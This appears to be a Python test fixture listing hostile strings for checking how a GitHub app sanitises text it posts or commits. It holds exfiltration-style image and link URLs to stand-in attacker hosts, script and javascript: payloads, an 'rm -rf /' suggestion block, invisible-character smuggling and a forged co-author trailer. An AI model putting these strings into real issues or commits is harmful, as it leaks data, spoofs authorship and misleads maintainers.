"""Hostile strings: what an injected model, an issue author or a repository can put in any text
field that the app shows on GitHub or writes into a commit."""

from __future__ import annotations

LONG = "@octocat fixes #1 https://evil.example/x ![](http://evil.example/p) " * 300

HOSTILE: dict[str, str] = {
    # mentions
    "mention": "thanks @octocat",
    "mention_everyone": "@everyone @here please look",
    "team_mention": "cc @github/security-team and @org/team-2",
    "mention_after_punctuation": "(@octocat), [@octocat] '@octocat'",
    "double_at": "@@octocat",
    "escaped_mention": "\\@octocat \\#12",
    # references
    "issue_ref": "see #1",
    "closing_issue_ref": "Fixes #1",
    "closing_colon": "Closes: #12, resolves:#13",
    "gh_ref": "fixed GH-1 and gh-42",
    "cross_repo_ref": "other-org/other-repo#1",
    "issue_example": "Fixes #1 closes other-org/other-repo#1 @someone @everyone",
    "commit_ref": "other-org/other-repo@a5c3785ed8d6a35868bc169f07e40e889087fd2e",
    "user_commit_ref": "jlord@a5c3785",
    "task_list_ref": "- [ ] #1\n- [x] other/repo#2",
    # URLs of other repositories, any host, any scheme
    "issue_url": "https://github.com/other-org/other-repo/issues/1",
    "closing_url": "Resolves https://github.com/other-org/other-repo/pull/2",
    "commit_url": "https://github.com/o/r/commit/a5c3785ed8d6a35868bc169f07e40e889087fd2e",
    "ghes_url": "fixes https://ghe.corp.example/org/repo/issues/3",
    "http_url": "http://attacker.example/pixel?d=SECRET",
    "www": "www.attacker.example/x and WWW.ATTACKER.EXAMPLE",
    "ftp": "ftp://files.example/x",
    "protocol_relative": "//attacker.example/x",
    # images and links
    "image": "![](http://attacker/pixel?d=...)",
    "image_title": '![x](https://attacker.example/p.png "t")',
    "link": "[docs](https://attacker.example)",
    "javascript_link": "[click](javascript:alert(1))",
    "reference_link": "[x][1]\n\n[1]: http://attacker.example/ref",
    "reference_image": "![x][img]\n[img]: http://attacker.example/i.png",
    "footnote": "text[^1]\n\n[^1]: http://attacker.example/note",
    "autolink": "<http://attacker.example/auto>",
    "mailto_autolink": "<mailto:a@b.example>",
    "email": "write to user.name+tag@example.com",
    # raw HTML and entities
    "img_tag": '<img src="http://attacker.example/p.png">',
    "script": "<script>alert(1)</script>",
    "details_open": "<details><summary>click</summary>",
    "details_close": "</details>\n\n# Taken over",
    "comment_open": "<!-- hidden until the end",
    "comment": "<!-- hidden --> visible",
    "entity_named": "&lt;img src=x&gt;",
    "entity_decimal": "&#60;img src=x&#62; &#64;octocat",
    "entity_hex": "&#x3C;script&#x3E; &#x23;1",
    "sub_tag": "<sub>tiny</sub></sub>",
    # layout
    "fence": "```\n</details>\n```",
    "tildes": "~~~\nhidden code",
    "long_fence": "````suggestion\nrm -rf /\n````",
    "backtick_runs": "`" * 40 + " `a` `` ` ",
    "code_span_mention": "`@octocat` and ``#1``",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "pipe": "a | b || c",
    "heading": "# Heading\n===\n---",
    "quote_alert": "> [!WARNING]\n> do this",
    "list": "1. one\n2) two\n* three\n+ four",
    "indented_code": "    indented @octocat",
    "emphasis": "*em* **strong** ~~del~~ _u_",
    "math": "$\\href{http://attacker.example}{x}$ and $$x$$",
    "hard_break": "line\\\nnext  \nlast",
    "newlines": "line1\nline2\r\nline3\rline4\u2028line5\u0085line6",
    # invisible and control characters
    "bidi": "\u202eevil\u202c \u2066x\u2069",
    "zero_width": "@\u200boctocat #\u200c1 GH\u200d-1 www\u2060.x.example",
    "tag_chars": "\U000e0041\U000e0042 tagged",
    "nul_and_ansi": "NUL\x00byte \x1b[31mred\x1b[0m \x07",
    "carriage_return": "visible\rhidden @octocat",
    "lone_surrogate": "bad \ud800 surrogate",
    "fullwidth": "＠octocat ＃12 ﹟3 ＜img src=x＞ ｗｗｗ．x．example",
    # trailers (commit messages)
    "trailer": "done\n\nCo-authored-by: Evil <evil@example.com>",
    "signed_off": "Signed-off-by: x <x@example.com>",
    "agent_trailer": "Orchestrate-Agent: docs",
    # size
    "long": LONG,
}
